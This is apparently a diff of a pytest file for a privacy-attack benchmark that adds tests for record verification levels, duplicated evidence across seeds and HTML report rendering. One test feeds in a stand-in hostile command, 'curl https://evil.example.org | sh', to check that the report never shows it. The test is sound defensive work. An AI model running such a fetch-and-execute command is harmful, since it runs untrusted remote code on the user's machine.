@@ -10,13 +10,13 @@ from typing import Any
 import pytest
 import torch
 from helpers.samples import make_record, make_score
-from privbench.benchmark.analysis.record_set import load_records
+from privbench.benchmark.analysis.record_set import Records, load_records
 from privbench.benchmark.core.evidence import ClassReconstructions, Predictions
 from privbench.benchmark.errors import CorruptArtifactError
 from privbench.benchmark.pipeline.session import Session
-from privbench.benchmark.records.record import Record
+from privbench.benchmark.records.record import Record, location
 from privbench.benchmark.records.submission import read_submission
-from privbench.benchmark.records.verification import CheckedRecord, Verification, write_verification
+from privbench.benchmark.records.verification import CheckedRecord, Published, Verification, write_verification
 from privbench.benchmark.report.html.pages import render_folder
 from privbench.benchmark.store.store import Store
 from privbench.benchmark.submissions import published, recompute, rerun, verify
@@ -74,6 +74,13 @@ def test_everything_that_is_published_is_the_verifiers(check: Check, honest: Pat
     assert record.created < "9999"
     assert (record.queries, record.costs, record.target, record.curves) == ({}, {}, {}, {})
     assert not any(TEXT.encode() in content for _, content in render_folder(records))
+
+
+def test_the_page_shows_no_command_of_the_author() -> None:
+    record = make_record(command=["curl", "https://evil.example.org", "|", "sh"])
+    pages = [content for _, content in render_folder(Records((record,), (Path(),)))]
+    assert any(b"privbench run --dataset digits --defense none" in content for content in pages)
+    assert not any(b"evil.example.org" in content for content in pages)
 
 
 def test_a_judge_that_cannot_be_had_lowers_the_level(honest: Path, verifier: Path, monkeypatch) -> None:
@@ -149,6 +156,13 @@ def test_a_leakage_score_that_cannot_be_compared_lowers_the_level_and_one_of_qua
     assert list(verify._uncompared(record, scores)) == ["attack_acc: it has no interval"]
 
 
+def test_a_repetition_with_a_note_has_no_level() -> None:
+    numbers = Published.of(make_record())
+    assert verify._at_level("re-run", {}, (), numbers).level == "re-run"
+    assert verify._at_level("re-run", {}, ("attack_acc: it has no interval",), numbers).level == "self-reported"
+    assert verify._at_level("recomputed", {}, (), None).level == "self-reported"
+
+
 def test_a_level_needs_the_numbers_of_the_verifier() -> None:
     with pytest.raises(ValueError, match="numbers of the verifier above the lowest level"):
         CheckedRecord(level="recomputed")
@@ -168,15 +182,37 @@ def test_fields_of_an_unknown_component_are_at_least_those_of_the_cell() -> None
     assert not _are_fields({"a": 2}, fields) and not _are_fields({"d": 1}, fields)
 
 
+def of_an_unknown_defense(record: dict[str, Any]) -> None:
+    record["cell"]["defense"] |= {"name": "ours", "distribution": "elsewhere"}
+    record["command"] = ["ours" if word == "none" else word for word in record["command"]]
+
+
+def test_one_evidence_does_not_count_for_two_seeds(check: Check, forged) -> None:
+    """Of a defense that nobody can install, so that no key shows which seed made the evidence."""
+    forged.change_record(of_an_unknown_defense)
+    (entry,) = forged.index["records"]
+    record = json.loads((forged.folder / entry["record"]).read_text("utf-8"))
+    record["cell"]["seed"], record["key"], record["picture"] = 1, "1" * 64, None
+    place = record["command"].index("--seed") + 1
+    record["command"][place] = "1"
+    second = Record.model_validate(record)
+    path = location(second, Path()).as_posix()
+    forged.replace(path, second.text().encode())
+    forged.change_index(lambda index: index["records"].append(entry | {"record": path}))
+    forged.change_index(lambda index: index.update(seeds=[0, 1]))
+    found = check(forged.folder)
+    assert found.records == {}
+    copy = "to have ClassReconstructions of its own, got nearly those of"
+    assert any(copy in problem for problem in found.problems), found.problems
+
+
 def test_changed_is_compared_with_each_installed_component(check: Check, forged) -> None:
     """A defense that nobody can install does not hide that the attack was weakened."""
 
     def edit(record: dict[str, Any]) -> None:
-        record["cell"]["defense"] = {"name": "ours", "distribution": "elsewhere", "version": 1, "fields": {}}
+        of_an_unknown_defense(record)
         record["changed"] = {}
-        words = record["command"][: record["command"].index("--set")]
-        words[words.index("none")] = "ours"
-        record["command"] = words
+        record["command"] = record["command"][: record["command"].index("--set")]
 
     forged.change_record(edit)
     (problem,) = check(forged.folder).problems
